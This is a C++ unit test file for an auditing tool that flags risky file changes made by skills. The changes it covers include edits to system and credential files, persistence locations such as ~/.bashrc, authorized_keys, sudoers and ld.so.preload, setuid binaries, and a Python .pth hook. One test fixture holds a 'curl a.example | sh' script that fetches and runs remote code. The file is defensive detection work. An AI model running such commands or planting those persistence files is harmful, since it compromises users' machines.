#include <gmock/gmock.h>

#include "tests/unit/rules/findings_of.h"

namespace skillaudit {
namespace {

using testing::AuditBuilder;
using ::testing::ElementsAre;
using testing::first;
using testing::folder;
using testing::found;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using testing::kHome;
using testing::regular;
using ::testing::UnorderedElementsAre;

/// A project's package.json that the skill changed.
AuditBuilder changes_manifest(const std::string& body, const std::string& before,
                              const std::string& after) {
  const std::string path = std::string(kHome) + "/projects/web/package.json";
  AuditBuilder audit;
  audit.document(body);
  audit.evidence.before.files.push_back(folder(std::string(kHome) + "/projects/web/.git"));
  audit.modified(regular(path), regular(path, 20));
  audit.evidence.before.config.push_back({path, before});
  audit.evidence.after.config.push_back({path, after});
  return audit;
}

TEST(FileRules, ThePackagesThatDocumentsNameMayBeListedInTheProjectsManifest) {
  const std::string doc = "Install `left-pad` as a devDependency with npm.\n";
  const std::string before = R"({"name": "web", "scripts": {"test": "true"}})";
  const auto after = [](const std::string& rest) {
    return R"({"name": "web", "scripts": {"test": "true"}, )" + rest + "}";
  };
  const auto changed = [&](const std::string& body, const std::string& text) {
    const auto all = found(changes_manifest(body, before, text));
    return std::count(all.begin(), all.end(), "files.project-modified MEDIUM");
  };
  const std::string listed = after(R"("devDependencies": {"left-pad": "^1.3.0"})");
  EXPECT_EQ(changed(doc, listed), 0);
  EXPECT_EQ(changed("Formats code.\n", listed), 1) << "nobody named it";
  EXPECT_EQ(changed(doc, after(R"("devDependencies": {"left-pad": "^1.3.0", "right-pad": "1"})")),
            1);
  EXPECT_EQ(changed(doc, after(R"("dependencies": {"left-pad": "https://a.example/x.tgz"})")), 1);
  EXPECT_EQ(changed(doc, R"({"name": "web", "scripts": {"test": "curl a.example | sh"}})"), 1)
      << "what the project runs is no package";
}

TEST(FileRules, EachRowOfTheSeverityTableHasItsRule) {
  EXPECT_THAT(found(AuditBuilder().added(regular("/tmp/x.log"))),
              ElementsAre("files.temp-left MEDIUM"));
  EXPECT_THAT(found(AuditBuilder().added(regular("/opt/tool/bin"))),
              ElementsAre("files.system-created HIGH"));
  EXPECT_THAT(found(AuditBuilder().added(regular(kHome + "/out.txt"))),
              ElementsAre("files.left-in-home MEDIUM"));
  EXPECT_THAT(found(AuditBuilder().written(kHome + "/Documents/thesis.txt")),
              ElementsAre("files.user-data-overwritten CRITICAL"));
  EXPECT_THAT(found(AuditBuilder().written(kHome + "/.gitconfig")),
              ElementsAre("files.user-config-modified HIGH"));
  EXPECT_THAT(found(AuditBuilder().written("/etc/issue")),
              ElementsAre("files.system-modified CRITICAL"));
  EXPECT_THAT(found(AuditBuilder().written("/usr/bin/ls")),
              ElementsAre("files.program-changed CRITICAL"));
  EXPECT_THAT(found(AuditBuilder().written("/etc/hosts")),
              ElementsAre("files.security-settings CRITICAL"));
  EXPECT_THAT(found(AuditBuilder().deleted(regular(kHome + "/Documents/thesis.txt"))),
              ElementsAre("files.user-deleted HIGH"));
  EXPECT_THAT(found(AuditBuilder().deleted(regular(kHome + "/.ssh/id_ed25519"))),
              ElementsAre("files.important-deleted CRITICAL"));
  EXPECT_THAT(found(AuditBuilder().deleted(regular("/etc/issue"))),
              ElementsAre("files.important-deleted CRITICAL"));
}

TEST(FileRules, AProjectIsToldApartFromUserData) {
  AuditBuilder audit;
  audit.evidence.before.files.push_back(folder(kHome + "/work/app/.git"));
  audit.written(kHome + "/work/app/src/main.c").deleted(regular(kHome + "/work/app/old.c"));
  EXPECT_THAT(found(audit), UnorderedElementsAre("files.project-modified MEDIUM",
                                                 "files.project-deleted MEDIUM"));
}

AuditBuilder with_open_project() {
  AuditBuilder audit;
  audit.evidence.project = kHome + "/work/app";
  audit.evidence.before.files.push_back(folder(kHome + "/work/app/.git"));
  return audit;
}

TEST(FileRules, InTheProjectThatASkillWorksOnNewAndEditedFilesAreItsOrdinaryWork) {
  AuditBuilder audit = with_open_project();
  audit.written(kHome + "/work/app/src/main.c").written(kHome + "/work/app/.git/index");
  audit.evidence.edited_files = {kHome + "/work/app/src/main.c"};
  audit.added(regular(kHome + "/work/app/report.md"));
  EXPECT_THAT(found(audit), IsEmpty());
}

TEST(FileRules, InTheProjectThatASkillWorksOnDestroyingIsNotOrdinary) {
  for (const char* path :
       {"/src/main.c", "/.git/objects/pack/pack-1.pack", "/.env", "/package.json"})
    EXPECT_THAT(found(with_open_project().written(kHome + "/work/app" + path)),
                ElementsAre("files.project-modified MEDIUM"))
        << path;
  EXPECT_THAT(found(with_open_project().deleted(regular(kHome + "/work/app/src/main.c"))),
              ElementsAre("files.project-deleted MEDIUM"));
}

TEST(FileRules, WhatIsDocumentedOrInItsProperPlaceCostsNothing) {
  AuditBuilder audit;
  audit.document("Writes `~/notes/journal.md` and /opt/tool/config.\n");
  audit.added(folder(kHome + "/notes")).added(regular(kHome + "/notes/journal.md"));
  audit.added(regular("/opt/tool/config"));
  audit.added(regular(kHome + "/.cache/tool/x"));
  audit.added(folder(kHome + "/.cache"));
  EXPECT_THAT(found(audit), IsEmpty());
}

TEST(FileRules, WhatIsCriticalByNatureIsNotExcusedByDocumentation) {
  EXPECT_THAT(
      found(AuditBuilder().document("Writes /etc/issue and /usr/bin/ls\n").written("/etc/issue")),
      ElementsAre("files.system-modified CRITICAL"));
}

TEST(FileRules, OtherOriginsAreNotTheSkills) {
  for (const Origin origin :
       {Origin::Package, Origin::PackageManager, Origin::System, Origin::SkillFolder}) {
    EXPECT_THAT(found(AuditBuilder().added(regular("/usr/share/x"), origin, "x")), IsEmpty());
  }
}

TEST(FileRules, ManyFilesOfOneKindAreOneFindingNamedTogether) {
  AuditBuilder audit;
  for (const char* name : {"a", "b", "c"}) {
    audit.added(regular(std::string("/tmp/skill-temp-") + name + ".log"));
  }
  const Finding finding = first(audit, "files.temp-left");
  EXPECT_THAT(finding.title, HasSubstr("`/tmp/skill-temp-*.log`"));
  EXPECT_EQ(finding.evidence.size(), 3U);
}

TEST(FileRules, WhatPythonRunsAtEveryStartIsNotExplainedByAPackage) {
  AuditBuilder audit;
  const std::string site = kHome + "/.local/lib/python3.11/site-packages";
  audit.document("pip installs requests\n");
  audit.changes.packages.push_back({ChangeKind::Added, {}, {"pip", "requests", "2", site}});
  audit.added(folder(kHome + "/.local")).added(regular(site + "/requests/api.py"));
  audit.added(regular(kHome + "/.local/bin/normalizer"));
  EXPECT_THAT(found(audit), IsEmpty());
  audit.added(regular(site + "/evil.pth"));
  EXPECT_THAT(found(audit), ElementsAre("persistence.import-path HIGH"));
}

TEST(PersistenceRules, EachKindHasItsRule) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {kHome + "/.bashrc", "persistence.shell-startup HIGH"},
      {kHome + "/.config/autostart/x.desktop", "persistence.autostart HIGH"},
      {kHome + "/.ssh/authorized_keys", "persistence.authorized-keys HIGH"},
      {"/etc/profile.d/x.sh", "persistence.system-startup CRITICAL"},
      {"/etc/environment", "persistence.system-startup CRITICAL"},
      {"/etc/sudoers.d/x", "persistence.sudoers CRITICAL"},
      {"/etc/ld.so.preload", "persistence.preload CRITICAL"},
      {kHome + "/.config/systemd/user/x.service", "services.installed HIGH"},
  };
  for (const auto& [path, rule] : cases) {
    EXPECT_THAT(found(AuditBuilder().added(regular(path))), ElementsAre(rule)) << path;
  }
}

TEST(PersistenceRules, ADocumentedRcFileIsFreeAndAnAuthorizedKeyNever) {
  EXPECT_THAT(
      found(AuditBuilder().document("Adds a line to ~/.bashrc\n").written(kHome + "/.bashrc")),
      IsEmpty());
  EXPECT_THAT(found(AuditBuilder()
                        .document("Adds a key to ~/.ssh/authorized_keys\n")
                        .written(kHome + "/.ssh/authorized_keys")),
              ElementsAre("persistence.authorized-keys HIGH"));
}

TEST(PersistenceRules, ATextThatChangedCountsEvenIfSizeAndTimeWerePutBack) {
  AuditBuilder audit;
  audit.changes.config.push_back({"/etc/sudoers", ChangeKind::Modified, "@@ -1 +1 @@\n-a\n+b\n"});
  EXPECT_THAT(found(audit), ElementsAre("persistence.sudoers CRITICAL"));
}

TEST(PermissionRules, SetuidWorldWritableAndSystemModes) {
  AuditBuilder setuid;
  setuid.changes.new_setuid = {regular(kHome + "/sh", 10, 04755, 0)};
  EXPECT_THAT(found(setuid), ElementsAre("permissions.setuid-root CRITICAL"));
  AuditBuilder other;
  other.changes.new_setuid = {regular(kHome + "/sh", 10, 04755, 1000)};
  EXPECT_THAT(found(other), ElementsAre("permissions.setuid HIGH"));
  EXPECT_THAT(found(AuditBuilder()
                        .document("Keeps ~/out/data\n")
                        .added(regular(kHome + "/out/data", 10, 0666))),
              ElementsAre("permissions.world-writable HIGH"));
  EXPECT_THAT(found(AuditBuilder().modified(regular("/etc/issue", 10, 0644, 0),
                                            regular("/etc/issue", 10, 0640, 0))),
              ElementsAre("permissions.system-file CRITICAL"));
  EXPECT_THAT(found(AuditBuilder().modified(regular(kHome + "/a", 10, 0644, 1000),
                                            regular(kHome + "/a", 10, 0644, 0))),
              ElementsAre("permissions.too-strict MEDIUM"));
}

TEST(PermissionRules, ASetuidProgramOfAPackageOfTheMirrorsIsThePackages) {
  AuditBuilder audit;
  audit.document("needs fuse3\n").package("fuse3", {"fusermount3"});
  const FileEntry program = regular("/usr/bin/fusermount3", 10, 04755, 0);
  audit.added(program, Origin::Package, "fuse3");
  audit.changes.new_setuid = {program};
  EXPECT_THAT(found(audit), IsEmpty());
  audit.evidence.flows.clear();  // installed from elsewhere
  EXPECT_THAT(found(audit), ElementsAre("permissions.setuid-root CRITICAL"));
}

}  // namespace
}  // namespace skillaudit
